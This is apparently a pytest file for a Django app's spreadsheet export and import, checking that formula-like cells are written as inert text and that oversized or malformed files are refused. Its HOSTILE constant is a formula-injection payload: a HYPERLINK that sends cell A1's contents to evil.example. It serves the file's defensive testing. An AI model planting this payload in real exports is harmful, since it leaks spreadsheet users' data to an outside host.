"""Spreadsheets out and in: nothing a cell says is ever run as a formula."""

from __future__ import annotations

import datetime as dt
import io
import json
from decimal import Decimal

import pytest
from django.utils import translation
from openpyxl import load_workbook

from hyeopchi.core.tabular import Limits, TableError, json_chunks, read_table, write_csv, write_xlsx
from tests.support.spreadsheets import inflating, one_far_cell

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
ROW = [HOSTILE, "+1", "-2", "@SUM(A1)", "\tx", "\rx", "보통 제목", -5, Decimal("1.50")]


def xlsx_cells(data: bytes) -> list[tuple[object, str]]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [(cell.value, cell.data_type) for cell in sheet[2]]


def test_xlsx_writes_formula_like_text_as_inert_strings_and_numbers_as_numbers():
    cells = xlsx_cells(write_xlsx([f"c{n}" for n in range(len(ROW))], [ROW]))

    assert cells == [
        ("'" + HOSTILE, "s"),
        ("'+1", "s"),
        ("'-2", "s"),
        ("'@SUM(A1)", "s"),
        ("'\tx", "s"),
        ("'_x000D_x", "s"),  # a carriage return, as SpreadsheetML escapes it
        ("보통 제목", "s"),
        (-5, "n"),
        (1.5, "n"),
    ]


def test_csv_prefixes_formula_like_text_and_leaves_numbers_alone():
    text = write_csv(["a"] * len(ROW), [ROW]).decode("utf-8-sig")

    line = text.split("\r\n")[1]
    assert (
        line
        == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",\'+1,\'-2,\'@SUM(A1),\'\tx,"\'\rx",보통 제목,-5,1.50'
    )


@pytest.mark.parametrize("name", ["t.csv", "t.xlsx"])
def test_a_file_written_here_reads_back_to_the_original_text(name):
    header = ["제목", "기관"]
    write = write_csv if name.endswith(".csv") else write_xlsx

    table = read_table(write(header, [[HOSTILE, "-동구"]]), name)

    assert table.rows == [(2, {"제목": HOSTILE, "기관": "-동구"})]


def refusal(data: bytes, name: str, limits: Limits | None = None) -> str:
    with translation.override("ko"), pytest.raises(TableError) as raised:
        read_table(data, name, limits)
    return str(raised.value.message)


def test_a_sheet_declaring_the_last_cell_is_refused_before_it_is_read():
    assert refusal(one_far_cell(), "t.xlsx") == "파일이 64열을 넘습니다."


def test_a_file_that_inflates_far_beyond_its_size_is_refused_unread():
    assert refusal(inflating(2_000_000), "t.xlsx") == (
        "파일의 압축을 풀면 2MB로, 이 크기의 스프레드시트가 담을 수 있는 양보다 많습니다. 읽지 않았습니다."
    )


def test_a_file_over_the_byte_limit_is_refused():
    assert refusal(b"a\n" * 1_100_000, "t.csv", Limits(bytes=2 * 2**20)) == "파일이 2MB보다 큽니다."


def test_rows_beyond_the_limit_are_refused():
    assert refusal(b"a\n1\n2\n3\n", "t.csv", Limits(rows=2)) == "파일이 2행을 넘습니다."


def test_an_unclosed_quotation_mark_is_refused_naming_its_row():
    data = '제목,설명\n첫 과제,"설명이 닫히지 않음\n둘째 과제,설명\n셋째 과제,설명\n'.encode()

    assert refusal(data, "t.csv") == "2행: 닫히지 않은 따옴표가 있습니다. 아무것도 읽지 않았습니다."


def test_a_cell_over_the_csv_field_limit_is_a_named_refusal():
    data = b"a,b\nx," + b"y" * 200_000 + b"\n"

    assert refusal(data, "t.csv") == "2행: 100,000자보다 긴 칸이 있습니다."


def test_the_settings_limits_override_the_defaults(settings):
    settings.IMPORT_LIMITS = {"rows": 1}

    assert refusal(b"a\n1\n2\n", "t.csv") == "파일이 1행을 넘습니다."


def test_json_is_an_array_of_objects_keyed_by_the_given_keys():
    rows = [[1, "가로등 설치", dt.date(2024, 3, 1), Decimal("12.50")], [2, None, None, Decimal(0)]]

    data = b"".join(json_chunks(["id", "title", "end", "progress"], rows, rows_per_chunk=1))

    assert data.decode("utf-8") == (
        '[\n{"id": 1, "title": "가로등 설치", "end": "2024-03-01", "progress": "12.50"},\n'
        '{"id": 2, "title": null, "end": null, "progress": "0"}\n]\n'
    )


def test_json_of_no_rows_is_an_empty_array():
    assert json.loads(b"".join(json_chunks(["id"], []))) == []
